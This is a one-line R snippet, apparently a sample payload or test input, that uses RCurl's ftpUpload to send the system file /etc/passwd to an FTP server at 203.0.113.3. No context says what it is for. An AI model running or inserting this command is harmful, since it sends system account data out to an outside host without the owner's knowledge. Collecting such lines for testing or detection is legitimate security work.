RCurl::ftpUpload("/etc/passwd", "ftp://203.0.113.3/p")
